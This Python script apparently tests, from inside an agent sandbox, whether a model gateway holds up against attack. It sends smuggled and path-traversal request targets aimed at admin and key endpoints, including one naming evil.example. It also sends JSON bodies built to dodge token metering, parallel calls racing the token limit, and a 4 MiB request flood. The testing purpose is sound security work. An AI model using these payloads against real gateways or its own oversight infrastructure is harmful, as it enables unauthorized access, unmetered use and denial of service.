#!/usr/bin/env python3
"""Round-3 attacks on the model gateway from inside a sandbox (issue 20, items 1-4), one agent, all phases in
one run (tests/run/test_round3_gateway.py): smuggled request targets through the forwarder, bodies the
gateway might read one way and the upstream another, parallel calls against the token limit, and a flood of
4 MiB refused calls. What it saw goes to round3.json in the workspace. Nothing here imports sbx."""

import collections
import json
import os
import socket
import threading
import time

BASE = os.environ["SBX_MODEL_BASE_URL"]
PORT = int(BASE.rsplit(":", 1)[1])
MODEL = os.environ["SBX_MODEL_NAME"]
out = {}


def raw(target, body, timeout=60):
    """One call with `target` exactly as given on the request line; its status (or the error's name)."""
    s = socket.create_connection(("127.0.0.1", PORT), timeout=timeout)
    try:
        s.sendall(("POST %s HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
                   "authorization: Bearer %s\r\ncontent-length: %d\r\nconnection: close\r\n\r\n"
                   % (target, os.environ["SBX_MODEL_API_KEY"], len(body))).encode() + body)
        data = b""
        while len(data) < 64 * 1024:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        return int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.1 ") else "no answer"
    except OSError as exc:
        return type(exc).__name__
    finally:
        s.close()


def chat(text, **extra):
    return json.dumps({"model": MODEL, "messages": [{"role": "user", "content": text}], **extra}).encode()


out["first"] = raw("/v1/chat/completions", chat("hello", max_tokens=64))

# 1. smuggled targets: each must be refused before the gateway forwards anything with the key
SMUGGLED = ["/v1/chat/completions%3F/../../../../admin/keys", "/v1/chat/completions/../../files", "/v1/chat/./completions",
            "/v1/chat/completions?x=1", "/v1/chat/completions#x", "/v1/chat%2Fcompletions", "//v1/chat/completions",
            "/v1/chat//completions", "/v1/%2e%2e/admin", "/v1/messages%3F/../../../v1/messages/batches", "/v1/batches",
            "/v1/files", "http://evil.example/v1/chat/completions", "/x", "/../x"]
out["smuggle"] = {t: raw(t, chat("smuggled", max_tokens=16)) for t in SMUGGLED}

# 2. bodies read two ways, or whose usage the gateway would not see
UNMETERED = [b'{"model":"%s","messages":[{"role":"user","content":"u"}],"\\u0073tream":true}' % MODEL.encode()] * 5 + [
    chat("u", stream=1), chat("u", stream=True, stream_options={"include_usage": 1}),
    b'{"model":"%s","messages":[],"stream":false,"stream":true}' % MODEL.encode(),
    chat("u", tools=[{"type": "web_search"}])]
out["unmetered"] = [raw("/v1/chat/completions", b) for b in UNMETERED]

# 3. 16 calls at once against the token limit (each about 1,500 tokens by the stand-in's count)
race_body = chat("race " + "w" * 6000, max_tokens=64)
results = []
threads = [threading.Thread(target=lambda: results.append(raw("/v1/chat/completions", race_body))) for _ in range(16)]
for t in threads:
    t.start()
for t in threads:
    t.join()
out["race"] = dict(collections.Counter(str(r) for r in results))
out["race_body_bytes"] = len(race_body)

# 4. a flood of 4 MiB calls (8 at a time) until the gateway closes the run's socket, or 90 s, or 800 calls
big = chat(os.urandom(2 * 1024 * 1024 - 64).hex())
flood, lock, stop_at = [], threading.Lock(), time.monotonic() + 90
cpu0, t0 = os.times(), time.monotonic()


def flooder():
    while time.monotonic() < stop_at:
        status = raw("/v1/chat/completions", big)
        with lock:
            flood.append(status)
            # once the gateway's socket is gone the forwarder answers 502, or resets a connection whose body it
            # never reads: 20 of those in a row and the flood has nothing left to hit
            if len(flood) >= 800 or (len(flood) >= 20 and 429 not in flood[-20:]):
                return


threads = [threading.Thread(target=flooder) for _ in range(8)]
for t in threads:
    t.start()
for t in threads:
    t.join()
cpu1 = os.times()
out["flood"] = dict(collections.Counter(str(s) for s in flood))
out["flood_s"] = round(time.monotonic() - t0, 2)
out["flood_agent_cpu_s"] = round(cpu1.user - cpu0.user + cpu1.system - cpu0.system, 3)
out["flood_body_bytes"] = len(big)

with open("round3.json", "w") as f:
    json.dump(out, f, indent=1, sort_keys=True)
print(json.dumps(out, sort_keys=True))
